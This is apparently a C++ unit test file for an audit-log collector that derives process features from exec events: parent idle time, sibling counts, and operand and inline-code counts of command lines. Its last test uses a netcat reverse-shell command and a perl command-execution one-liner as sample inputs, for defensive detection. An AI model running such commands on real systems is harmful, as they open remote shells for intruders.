// SPDX-License-Identifier: Apache-2.0
// What an exec tells of how its process was made, and of its command line.
#include <boost/test/unit_test.hpp>

#include "tests/unit/normalize/lines.hpp"
#include "tests/unit/normalize/story.hpp"

namespace audisp_eql::collector {
namespace {

using detect::FieldId;
using namespace lines;

// cron (10) forks 11, which runs a shell.
struct WithShell : Story {
    WithShell() {
        lines(clock(0) + host("audit,proc") + fork(5, 1, 10) + exec(6, 10) + clock(7) +
              execve(6, 90, 1, 10, "/usr/sbin/cron") + fork(10, 10, 11) + exec(11, 11) + clock(12) +
              execve(11, 100, 10, 11, "/usr/bin/bash"));
        events.clear();
    }
    // The last event's idle time, siblings, and when the newest of them was forked.
    std::string last() const {
        const detect::EventPtr& event = events.back();
        return joined(event, FieldId::process_parent_ext_idle_ms) + '/' +
               joined(event, FieldId::process_siblings_count) + '/' +
               joined(event, FieldId::process_siblings_newest_ms);
    }
};

std::string words(const std::vector<std::string>& args) {
    Story story;
    story.lines(clock(0) + host("audit,proc") + fork(10, 1, 11) + exec(11, 11) + clock(12));
    story.lines(execve({.ms = 11, .serial = 100, .pid = 11, .ppid = 1, .exe = "/usr/bin/x"}, args,
                       {"/usr/bin/x", "/lib64/ld-linux-x86-64.so.2"}));
    const detect::EventPtr& event = story.events.back();
    const detect::Values code = event->values(FieldId::process_inline_code);
    return joined(event, FieldId::process_operands_count) + (code.empty() ? "" : " code");
}

}  // namespace

BOOST_AUTO_TEST_SUITE(normalize)

BOOST_AUTO_TEST_CASE(exec_tells_how_long_its_parent_had_been_idle) {
    WithShell story;
    story.lines(fork(261, 11, 12) + exec(262, 12) + clock(263) +
                execve(262, 101, 11, 12, "/usr/bin/id"));
    BOOST_TEST(story.last() == "250/0/");
    // The end of a child is something that the parent was seen to wait for.
    story.lines(exit(300, 12) + fork(305, 11, 13) + exec(306, 13) + clock(307) +
                execve(306, 102, 11, 13, "/usr/bin/ls"));
    BOOST_TEST(story.last() == "5/0/");
}

BOOST_AUTO_TEST_CASE(parent_with_another_child_is_not_idle) {
    WithShell story;
    story.lines(fork(261, 11, 12) + fork(264, 11, 13) + exec(265, 13) + clock(266) +
                execve(265, 102, 11, 13, "/usr/bin/cat"));
    BOOST_TEST(story.last() == "/1/3");
    // The newest one ended, the other lives.
    story.lines(exit(270, 13) + fork(300, 11, 14) + exec(301, 14) + clock(302) +
                execve(301, 103, 11, 14, "/usr/bin/cat"));
    BOOST_TEST(story.last() == "/1/");
}

BOOST_AUTO_TEST_CASE(connection_of_the_parent_ends_its_idle_time) {
    WithShell story;
    story.lines(clock(201) + connect(200, 101, 10, 11, "/usr/bin/bash") + fork(260, 11, 12) +
                exec(261, 12) + clock(262) + execve(261, 102, 11, 12, "/usr/bin/id"));
    BOOST_TEST(story.last() == "60/0/");
}

BOOST_AUTO_TEST_CASE(parent_that_was_never_seen_to_be_forked_tells_nothing) {
    Story story;
    story.lines(clock(0) + host("audit,proc") + fork(10, 7, 11) + exec(11, 11) + clock(12) +
                execve(11, 100, 7, 11, "/usr/bin/bash"));
    BOOST_TEST(joined(story.events.back(), FieldId::process_parent_ext_idle_ms).empty());
    BOOST_TEST(joined(story.events.back(), FieldId::process_siblings_count).empty());
}

BOOST_AUTO_TEST_CASE(operands_and_program_text_of_a_command_line) {
    BOOST_TEST(words({"sh"}) == "0");
    BOOST_TEST(words({"-bash"}) == "0");
    BOOST_TEST(words({"bash", "-i"}) == "0");
    BOOST_TEST(words({"sh", "-"}) == "0");
    BOOST_TEST(words({"sh", "--", "-x"}) == "1");
    BOOST_TEST(words({"sh", "/etc/cron.daily/x"}) == "1");
    BOOST_TEST(words({"nc", "-e", "/bin/sh", "192.0.2.1", "443"}) == "3");
    BOOST_TEST(words({"sh", "-c", "id; uname"}) == "1 code");
    BOOST_TEST(words({"perl", "-e", "system $_ while <>;"}) == "1 code");
    BOOST_TEST(words({"mail", "-s", "two words", "root"}) == "2");
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace audisp_eql::collector
